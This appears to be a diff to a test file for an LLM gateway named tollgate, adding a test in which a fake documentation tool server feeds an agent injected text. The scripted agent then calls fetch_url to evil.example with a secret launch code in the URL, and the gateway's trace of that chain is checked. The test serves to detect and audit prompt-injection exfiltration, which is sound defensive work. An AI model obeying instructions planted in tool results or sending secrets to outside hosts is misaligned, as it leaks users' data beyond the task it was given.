@@ -4,8 +4,10 @@ what a tool returned, and carries a secret out in an argument. Who did what, on 
 import http.server
 import json
 import re
+import sys
 import threading
 
+import mcp_world
 import pytest
 import world
 
@@ -136,3 +138,86 @@ def test_a_replay_is_a_new_call_with_the_old_one_as_cause(incident):
     assert f"because   an operator sent {calls[4]} again" in world.tollgate("trace", replay, gate=gate, env=ask)
     refused = world.tollgate("replay", calls[4], gate=gate, status=1)
     assert "TOLLGATE_KEY" in refused
+
+
+SERVER = """
+import json, sys
+
+FOUND = ["page 1: see page 2", "page 2: %s", "page 3: %s", "page 4: the end"]
+TOOLS = %s
+calls = 0
+for line in sys.stdin:
+    asked = json.loads(line)
+    if "id" not in asked:
+        continue
+    if asked["method"] == "initialize":
+        result = {"protocolVersion": "2025-11-25", "capabilities": {"tools": {}}, "serverInfo": {"name": "docs", "version": "1"}}
+    elif asked["method"] == "tools/list":
+        result = {"tools": TOOLS}
+    else:
+        text = FOUND[calls] if asked["params"]["name"] == "search_docs" else "200 OK"
+        calls += 1
+        result = {"content": [{"type": "text", "text": text}]}
+    print(json.dumps({"jsonrpc": "2.0", "id": asked["id"], "result": result}), flush=True)
+"""
+
+
+def agent_with_tools(gate) -> list[str]:
+    """The same loop, with tools behind the gate. Returns the ids of its calls, to the model and to tools."""
+    client = mcp_world.Client(gate, "/docs", key="sk-agents")
+    offered = [
+        {"type": "function", "function": {"name": tool["name"], "description": tool["description"], "parameters": tool["inputSchema"]}}
+        for tool in client.ask("tools/list")["result"]["tools"]
+    ]
+    messages, calls = [{"role": "user", "content": "Summarise the launch plan."}], []
+    while True:
+        status, headers, body = world.post(f"{gate.url}/v1/chat/completions", {"model": "big", "messages": messages, "tools": offered}, {"authorization": "Bearer sk-agents"})
+        assert status == 200, body
+        calls.append(headers["x-tollgate-call-id"])
+        message = json.loads(body)["choices"][0]["message"]
+        if "tool_calls" not in message:
+            return calls
+        messages.append(message)
+        for chosen in message["tool_calls"]:
+            arguments = json.loads(chosen["function"]["arguments"])
+            said = mcp_world.text(client.ask("tools/call", {"name": chosen["function"]["name"], "arguments": arguments}))
+            calls.append(client.answered["x-tollgate-call-id"])
+            messages.append({"role": "tool", "tool_call_id": chosen["id"], "content": said})
+
+
+def test_what_tools_really_did_is_answered_too(own_gate, tmp_path):
+    listed = [{"name": tool["function"]["name"], "description": tool["function"]["description"], "inputSchema": tool["function"]["parameters"]} for tool in TOOLS]
+    program = tmp_path / "docs.py"
+    program.write_text(SERVER % (SECRET, INJECTED, json.dumps(listed)))
+    config = f"""
+master_key: sk-agents
+capture: {{ bodies: full }}
+models:
+  big: [{{ provider: openai_compatible, model: big, base_url: "http://127.0.0.1:{Model().server.server_port}/v1", price: {{ input_usd_per_mtok: 10, output_usd_per_mtok: 30 }} }}]
+tool_servers:
+  docs: {{ command: [{json.dumps(sys.executable)}, {json.dumps(str(program))}], effects: {{ search_docs: read }} }}
+"""
+    gate = own_gate(config=config)
+    calls = agent_with_tools(gate)
+    assert len(calls) == 11
+    run = lambda *arguments: world.tollgate(*arguments, gate=gate, env={"TOLLGATE_KEY": "sk-agents"})  # noqa: E731
+    world.wait_for(lambda: calls[-1] in run("calls", "--json"), "the index", gate.process)
+    # Was the page really fetched, or only asked for? The choice and the call that executed it.
+    page = json.loads(run("calls", "--since", "1h", "--tool", "fetch_url", "--json"))
+    assert [(row["call_id"], row["tool"]) for row in page["calls"]] == [(calls[9], "docs/fetch_url"), (calls[8], "")]
+    assert "docs/fetch_url, master" in run("calls", "--tool", "fetch_url")
+    # What led to it, and what did it lead to? Prompt, offered, chosen, executed, result, in one trace.
+    story = run("trace", calls[9])
+    assert "11 calls in" in story, story
+    steps = re.split(r"\n\n", story)[1:]
+    assert "offered   fetch_url, search_docs, send_mail" in steps[8] and "chose     fetch_url (call_4_x, arguments" in steps[8]
+    assert "executes  tools/call fetch_url (destructive, arguments" in steps[9]
+    assert "because   it executes fetch_url, chosen in 9 (call_4_x)" in steps[9]
+    assert "because   it carries the result of fetch_url, chosen in 9 (call_4_x)" in steps[10]
+    digest = re.search(r"call_4_x, arguments (\w+)", steps[8])[1]
+    assert f"arguments {digest})" in steps[9], "what was executed is what was chosen"
+    raw = run("trace", calls[9], "--raw")
+    assert raw.count("evil.example/?d=the+launch+code+is+0451") > 2 and INJECTED in raw
+    # What of it can be taken back? Nothing is configured, and that is said.
+    plan = run("undo", calls[9])
+    assert "complete, tool calls: 5 done" in plan and "no call is configured that takes it back" in plan
